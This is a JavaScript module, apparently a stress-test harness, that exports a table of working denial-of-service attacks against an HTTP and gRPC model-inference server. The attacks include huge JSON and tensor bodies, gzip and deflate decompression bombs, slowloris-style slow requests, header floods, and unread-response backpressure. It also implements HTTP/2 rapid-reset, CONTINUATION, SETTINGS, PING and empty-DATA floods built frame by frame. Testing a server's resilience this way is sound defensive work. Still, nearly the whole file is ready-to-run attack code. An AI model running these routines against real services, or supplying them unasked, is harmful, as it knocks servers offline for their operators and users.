/**
 * What hostile clients do, over raw sockets: one wave of each attack. Every attack ends by itself, whatever the server makes of it: it answers, or closes the connection.
 *
 * The server holds the model `identity` (input `x`, output `OUTPUT__0`, UINT8 [-1]) and `strings` (input `words`, BYTES [-1, 1]).
 */
import { connect } from 'node:net';
import { setImmediate as turn, setTimeout as wait } from 'node:timers/promises';
import { deflateSync, gzipSync } from 'node:zlib';

const MIB = 2 ** 20;
const INFER = '/v2/models/identity/infer';
const MODEL_INFER = '/inference.GRPCInferenceService/ModelInfer';

/** Longest time that a connection is waited for. */
const PATIENCE_MS = 20_000;

/** An open connection, or undefined when there is none to be had. Errors of it are of no interest. */
function open({ host, port }) {
  return new Promise((resolve) => {
    const socket = connect({ host, port }, () => resolve(socket));
    socket.on('error', () => resolve(undefined));
  });
}

/** Writes as fast as the server reads; false once it does not any more. */
async function write(socket, bytes) {
  if (socket.destroyed || socket.writableEnded) return false;
  if (socket.write(bytes)) return true;
  await Promise.race([
    new Promise((resolve) => {
      socket.once('drain', resolve);
      socket.once('close', resolve);
    }),
    wait(PATIENCE_MS),
  ]);
  return !socket.destroyed && !socket.writableNeedDrain;
}

/** Reads until the server closes or has said enough. */
async function read(socket, enough = () => false) {
  let bytes = 0;
  let tail = '';
  await Promise.race([
    new Promise((resolve) => {
      socket.on('data', (piece) => {
        bytes += piece.length;
        tail = (tail + piece.toString('latin1')).slice(-4096);
        if (enough(tail, bytes)) resolve();
      });
      socket.once('close', resolve);
    }),
    wait(PATIENCE_MS),
  ]);
  socket.destroy();
  return { bytes, tail };
}

const head = (lines, path = INFER) =>
  `POST ${path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n${lines.join('\r\n')}\r\n\r\n`;

/** One request of many pieces, and its answer read to the end. */
async function post({ http }, { lines = [], path, pieces }) {
  const socket = await open(http);
  if (socket === undefined) return;
  const answer = read(socket);
  const length = pieces.reduce((sum, piece) => sum + piece.length, 0);
  await write(socket, head([`Content-Length: ${length}`, ...lines], path));
  for (const piece of pieces) if (!(await write(socket, piece))) break;
  await answer;
}

/** `count` times `unit` between `start` and `end`, in pieces of a mebibyte or so. */
function repeated({ start = '', unit, bytes, end = '' }) {
  const block = Buffer.from(unit.repeat(Math.ceil(MIB / unit.length)));
  return [Buffer.from(start), ...new Array(Math.ceil(bytes / block.length)).fill(block), Buffer.from(end)];
}

const input = (more) => ({ name: 'x', datatype: 'UINT8', shape: [3], data: [1, 2, 3], ...more });

/** Pieces of a request with a JSON header and a binary part, and its length line. */
function binary({ inputs, bytes, outputs }) {
  const text = JSON.stringify({ inputs, outputs });
  const block = Buffer.alloc(MIB);
  return {
    lines: [`Inference-Header-Content-Length: ${text.length}`],
    pieces: [Buffer.from(text), ...new Array(bytes / MIB).fill(block)],
  };
}

// HTTP/2 and gRPC by hand.

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

export function frame(type, { flags = 0, stream = 0, payload = Buffer.alloc(0) } = {}) {
  const bytes = Buffer.alloc(9 + payload.length);
  bytes.writeUIntBE(payload.length, 0, 3);
  bytes[3] = type;
  bytes[4] = flags;
  bytes.writeUInt32BE(stream, 5);
  payload.copy(bytes, 9);
  return bytes;
}

const text = (value) => Buffer.concat([Buffer.of(value.length), Buffer.from(value)]);

/** A header block of literals. */
export function headerBlock(headers) {
  return Buffer.concat(Object.entries(headers).flatMap(([key, value]) => [Buffer.of(0), text(key), text(value)]));
}

const callBlock = (path, more = {}) =>
  headerBlock({
    ':method': 'POST',
    ':scheme': 'http',
    ':authority': 'a',
    ':path': path,
    'content-type': 'application/grpc',
    te: 'trailers',
    ...more,
  });

const HEADERS = 1;
const END_HEADERS = 4;
const MAX_WINDOW = 2 ** 31 - 1;

/** A connection on which settings have been exchanged. */
async function openHttp2({ grpc }) {
  const socket = await open(grpc);
  if (socket === undefined) return undefined;
  socket.write(Buffer.concat([PREFACE, frame(4)]));
  return socket;
}

/** Sends one call with a message in DATA frames of 16 KiB, heedless of the window that the server gives after the first 8 MiB: it waits for updates by time. */
async function call(context, { path = MODEL_INFER, headers, pieces }) {
  const socket = await openHttp2(context);
  if (socket === undefined) return;
  let window = 65_535;
  let credit = () => {};
  let pending = Buffer.alloc(0);
  let initial = 65_535;
  let used = 0;
  let streamWindow = 0;
  let isOver = false;
  const updates = (piece) => {
    pending = Buffer.concat([pending, piece]);
    while (pending.length >= 9) {
      const length = pending.readUIntBE(0, 3);
      if (pending.length < 9 + length) break;
      const [type, flags, stream] = [pending[3], pending[4], pending.readUInt32BE(5)];
      const payload = pending.subarray(9, 9 + length);
      if (type === 4 && (flags & 1) === 0) {
        for (let at = 0; at + 6 <= length; at += 6)
          if (payload.readUInt16BE(at) === 4) initial = payload.readUInt32BE(at + 2);
        socket.write(frame(4, { flags: 1 }));
      } else if (type === 8) {
        if (stream === 0) window += payload.readUInt32BE(0);
        else streamWindow += payload.readUInt32BE(0);
      } else if ((type === 1 && stream === 1 && (flags & 1) === 1) || type === 3 || type === 7) isOver = true;
      pending = pending.subarray(9 + length);
    }
    credit();
  };
  socket.on('data', updates);
  const closed = new Promise((resolve) => socket.once('close', resolve));
  socket.once('close', () => {
    isOver = true;
    credit();
  });
  await wait(20);
  socket.write(frame(HEADERS, { flags: END_HEADERS, stream: 1, payload: callBlock(path, headers) }));
  const deadline = performance.now() + PATIENCE_MS;
  for (const piece of pieces) {
    for (let at = 0; at < piece.length && !isOver; ) {
      const size = Math.min(16_384, piece.length - at);
      while (!isOver && (window < size || initial + streamWindow - used < size) && performance.now() < deadline) {
        await Promise.race([
          new Promise((resolve) => {
            credit = resolve;
          }),
          wait(200),
        ]);
      }
      if (performance.now() >= deadline) isOver = true;
      if (isOver) break;
      window -= size;
      used += size;
      if (!(await write(socket, frame(0, { stream: 1, payload: piece.subarray(at, at + size) })))) isOver = true;
      at += size;
    }
    if (isOver) break;
  }
  if (!isOver) socket.write(frame(0, { flags: 1, stream: 1 }));
  while (!isOver && performance.now() < deadline) {
    await Promise.race([
      new Promise((resolve) => {
        credit = resolve;
      }),
      wait(200),
    ]);
  }
  socket.destroy();
  await closed;
}

function varint(value) {
  const bytes = [];
  let rest = value;
  for (; rest > 0x7f; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | 0x80);
  return Buffer.from([...bytes, rest]);
}

/** Head of a field of bytes. */
const fieldHead = (number, length) => Buffer.concat([varint(number * 8 + 2), varint(length)]);
const field = (number, bytes) => Buffer.concat([fieldHead(number, bytes.length), bytes]);
const inputField = (name, datatype, dims) => [
  field(1, Buffer.from(name)),
  field(2, Buffer.from(datatype)),
  field(3, Buffer.concat(dims.map(varint))),
];

/** A message behind its prefix: its pieces one after another. */
function message(pieces, flag = 0) {
  const prefix = Buffer.alloc(5);
  prefix[0] = flag;
  prefix.writeUInt32BE(
    pieces.reduce((sum, piece) => sum + piece.length, 0),
    1,
  );
  return [prefix, ...pieces];
}

/** Sends the same bytes over and over on a connection, for a time; ends when the server closes it. */
async function flood(context, { start = Buffer.alloc(0), unit, milliseconds = 300 }) {
  const socket = await openHttp2(context);
  if (socket === undefined) return;
  socket.resume();
  await write(socket, start);
  const block = Buffer.concat(new Array(Math.ceil(65_536 / unit.length)).fill(unit));
  const end = performance.now() + milliseconds;
  while (performance.now() < end && (await write(socket, block))) await turn();
  socket.destroy();
}

const times = (count, run) => Promise.all(Array.from({ length: count }, (_, i) => run(i)));

/** By turns of gzip and of deflate; made when they are wanted. */
function bombs() {
  const zeros = Buffer.alloc(100 * MIB);
  return { gzip: gzipSync(zeros), deflate: deflateSync(zeros) };
}

const encodingOf = (i) => (i % 2 === 0 ? 'gzip' : 'deflate');

/** By name; each takes where the server listens: `{ http: { host, port }, grpc: { host, port } }`. */
export const ATTACKS = {
  'JSON numbers, 24 MiB': (context) =>
    post(context, {
      pieces: repeated({
        start: '{"inputs":[{"name":"x","datatype":"UINT8","shape":[12582912],"data":[',
        unit: '1,',
        bytes: 24 * MIB,
        end: '1]}]}',
      }),
    }),
  'JSON members, 24 MiB': (context) =>
    post(context, { pieces: repeated({ start: '{', unit: '"a":0,', bytes: 24 * MIB, end: '"inputs":[]}' }) }),
  'JSON brackets and blanks, 24 MiB': (context) =>
    post(context, { pieces: repeated({ start: '{"a":[', unit: '[[]], ', bytes: 24 * MIB, end: '1],"inputs":[]}' }) }),
  'one JSON number of 16 MiB': (context) =>
    post(context, {
      pieces: repeated({
        start: '{"inputs":[{"name":"x","datatype":"INT64","shape":[1],"data":[1',
        unit: '0',
        bytes: 16 * MIB,
        end: ']}]}',
      }),
    }),
  'generate, 24 MiB': (context) =>
    post(context, {
      path: '/v2/models/identity/generate',
      pieces: repeated({ start: '{"x":[', unit: '1,', bytes: 24 * MIB, end: '1]}' }),
    }),
  'an answer of JSON, 16 MiB of tensor': (context) =>
    post(context, binary({ inputs: [binaryInput(16 * MIB)], bytes: 16 * MIB })),
  'a tensor of 128 MiB': (context) =>
    post(
      context,
      binary({
        inputs: [binaryInput(128 * MIB)],
        bytes: 128 * MIB,
        outputs: [{ name: 'OUTPUT__0', parameters: { binary_data: true } }],
      }),
    ),
  'empty strings, 32 MiB of them': (context) =>
    post(context, {
      ...binary({
        inputs: [{ name: 'words', datatype: 'BYTES', shape: [32, 1], parameters: { binary_data_size: 32 * MIB } }],
        bytes: 32 * MIB,
      }),
      path: '/v2/models/strings/infer',
    }),
  'chunks of one byte': async ({ http }) => {
    const socket = await open(http);
    if (socket === undefined) return;
    const answer = read(socket);
    await write(socket, head(['Transfer-Encoding: chunked']));
    const block = Buffer.from('1\r\na\r\n'.repeat(10_000));
    for (let i = 0; i < 30 && (await write(socket, block)); i++) await turn();
    socket.destroy();
    await answer;
  },
  'chunks, 128 MiB': async ({ http }) => {
    const socket = await open(http);
    if (socket === undefined) return;
    const answer = read(socket);
    await write(socket, head(['Transfer-Encoding: chunked', 'Inference-Header-Content-Length: 2']));
    const chunk = Buffer.concat([Buffer.from('10000\r\n'), Buffer.alloc(65_536, '{'), Buffer.from('\r\n')]);
    for (let i = 0; i < 2048 && (await write(socket, chunk)); i++);
    await write(socket, '0\r\n\r\n');
    await answer;
  },
  'chunk extensions without end': async ({ http }) => {
    const socket = await open(http);
    if (socket === undefined) return;
    const answer = read(socket);
    await write(socket, `${head(['Transfer-Encoding: chunked'])}1;`);
    for (let i = 0; i < 64 && (await write(socket, Buffer.alloc(65_536, 'a'))); i++);
    await answer;
  },
  'a million headers': async ({ http }) => {
    const lines = Buffer.from(Array.from({ length: 5000 }, (_, i) => `X-${i}: 1\r\n`).join(''));
    await times(50, async () => {
      const socket = await open(http);
      if (socket === undefined) return;
      const answer = read(socket);
      await write(socket, `POST ${INFER} HTTP/1.1\r\n`);
      for (let i = 0; i < 4 && (await write(socket, lines)); i++);
      await answer;
    });
  },
  'bombs of gzip and deflate': (context) => {
    const bomb = bombs();
    return times(8, (i) =>
      post(context, { lines: [`Content-Encoding: ${encodingOf(i)}`], pieces: [bomb[encodingOf(i)]] }),
    );
  },
  'requests and resets': ({ http }) =>
    times(300, async (i) => {
      const socket = await open(http);
      if (socket === undefined) return;
      const body = JSON.stringify({ inputs: [input({})] });
      const whole = `${head([`Content-Length: ${body.length}`])}${body}`;
      await write(socket, whole.slice(0, Math.ceil((whole.length * (i + 1)) / 300)));
      socket.resetAndDestroy();
    }),
  'slow heads and bodies': async ({ http }) => {
    const sockets = await times(300, async (i) => {
      const socket = await open(http);
      socket?.write(i % 2 === 0 ? `POST ${INFER} HT` : `${head(['Content-Length: 1000000'])}{`);
      return socket;
    });
    for (let round = 0; round < 10; round++) {
      for (const socket of sockets) if (socket?.writable) socket.write('a');
      await wait(50);
    }
    for (const socket of sockets) socket?.destroy();
  },
  'answers that nobody reads': async ({ http }) => {
    const { lines, pieces } = binary({
      inputs: [binaryInput(MIB)],
      bytes: MIB,
      outputs: [{ name: 'OUTPUT__0', parameters: { binary_data: true } }],
    });
    const body = Buffer.concat(pieces);
    const sockets = await times(32, async () => {
      const socket = await open(http);
      socket?.pause();
      const start = head([`Content-Length: ${body.length}`, ...lines]).replace('close', 'keep-alive');
      for (let i = 0; i < 4; i++) socket?.write(Buffer.concat([Buffer.from(start), body]));
      return socket;
    });
    await wait(500);
    for (const socket of sockets) socket?.resetAndDestroy();
  },
  'gRPC: numbers one by one, 24 MiB': (context) => {
    const numbers = Buffer.alloc(MIB, 1);
    const parts = inputField('x', 'UINT8', [24 * MIB]);
    const packed = 24 * MIB;
    const contents = Buffer.concat([fieldHead(4, packed)]);
    const contentsHead = fieldHead(5, contents.length + packed);
    const size = parts.reduce((sum, part) => sum + part.length, 0) + contentsHead.length + contents.length + packed;
    return call(context, {
      pieces: message([
        field(1, Buffer.from('identity')),
        fieldHead(5, size),
        ...parts,
        contentsHead,
        contents,
        ...new Array(24).fill(numbers),
      ]),
    });
  },
  'gRPC: empty fields, 64 MiB': (context) =>
    call(context, {
      pieces: message([
        field(1, Buffer.from('identity')),
        ...new Array(64).fill(Buffer.from('\x0a\x00'.repeat(MIB / 2), 'latin1')),
      ]),
    }),
  'gRPC: a tensor of 128 MiB': (context) =>
    call(context, {
      pieces: message([
        field(1, Buffer.from('identity')),
        field(5, Buffer.concat(inputField('x', 'UINT8', [128 * MIB]))),
        fieldHead(7, 128 * MIB),
        ...new Array(128).fill(Buffer.alloc(MIB)),
      ]),
    }),
  'gRPC: bombs': (context) => {
    const bomb = bombs();
    return times(8, (i) =>
      call(context, { headers: { 'grpc-encoding': encodingOf(i) }, pieces: message([bomb[encodingOf(i)]], 1) }),
    );
  },
  'gRPC: calls and resets': async (context) => {
    const socket = await openHttp2(context);
    if (socket === undefined) return;
    socket.resume();
    const block = callBlock(MODEL_INFER);
    const end = performance.now() + 300;
    for (let stream = 1; performance.now() < end && stream < 2 ** 24; ) {
      const frames = [];
      for (let i = 0; i < 200; i++, stream += 2)
        frames.push(
          frame(HEADERS, { flags: END_HEADERS, stream, payload: block }),
          frame(3, { stream, payload: Buffer.of(0, 0, 0, 8) }),
        );
      if (!(await write(socket, Buffer.concat(frames)))) break;
      await turn();
    }
    socket.destroy();
  },
  'gRPC: CONTINUATION without end': (context) =>
    flood(context, {
      start: frame(HEADERS, { stream: 1, payload: callBlock(MODEL_INFER) }),
      unit: frame(9, { stream: 1, payload: headerBlock({ 'x-a': 'b'.repeat(100) }) }),
    }),
  'gRPC: SETTINGS without end': (context) =>
    flood(context, { unit: frame(4, { payload: Buffer.from([0, 4, 0, 1, 0, 0]) }) }),
  'gRPC: PING without end': (context) => flood(context, { unit: frame(6, { payload: Buffer.alloc(8) }) }),
  'gRPC: empty DATA without end': (context) =>
    flood(context, {
      start: frame(HEADERS, { flags: END_HEADERS, stream: 1, payload: callBlock(MODEL_INFER) }),
      unit: frame(0, { stream: 1 }),
    }),
  'gRPC: slow calls': async (context) => {
    const sockets = await times(100, async (i) => {
      const socket = await openHttp2(context);
      socket?.resume();
      socket?.write(frame(HEADERS, { flags: END_HEADERS, stream: 1, payload: callBlock(MODEL_INFER) }));
      if (i % 2 === 0) socket?.write(frame(0, { stream: 1, payload: Buffer.from([0, 0, 1, 0, 0]) }));
      return socket;
    });
    for (let round = 0; round < 10; round++) {
      for (const socket of sockets) if (socket?.writable) socket.write(frame(0, { stream: 1, payload: Buffer.of(0) }));
      await wait(50);
    }
    for (const socket of sockets) socket?.destroy();
  },
  'gRPC: answers that nobody reads': async (context) => {
    const pieces = Buffer.concat(
      message([
        field(1, Buffer.from('identity')),
        field(5, Buffer.concat(inputField('x', 'UINT8', [65_000]))),
        field(7, Buffer.alloc(65_000)),
      ]),
    );
    const sockets = await times(16, async () => {
      const socket = await openHttp2(context);
      if (socket === undefined) return undefined;
      socket.pause();
      const update = Buffer.alloc(4);
      update.writeUInt32BE(MAX_WINDOW - 65_535);
      socket.write(frame(8, { payload: update }));
      for (let i = 0; i < 50; i++) {
        const stream = 2 * i + 1;
        socket.write(frame(HEADERS, { flags: END_HEADERS, stream, payload: callBlock(MODEL_INFER) }));
        for (let at = 0; at < pieces.length; at += 16_384) {
          const payload = pieces.subarray(at, at + 16_384);
          socket.write(frame(0, { flags: at + 16_384 >= pieces.length ? 1 : 0, stream, payload }));
        }
      }
      return socket;
    });
    await wait(500);
    for (const socket of sockets) socket?.resetAndDestroy();
  },
};

function binaryInput(bytes) {
  return { name: 'x', datatype: 'UINT8', shape: [bytes], parameters: { binary_data_size: bytes } };
}
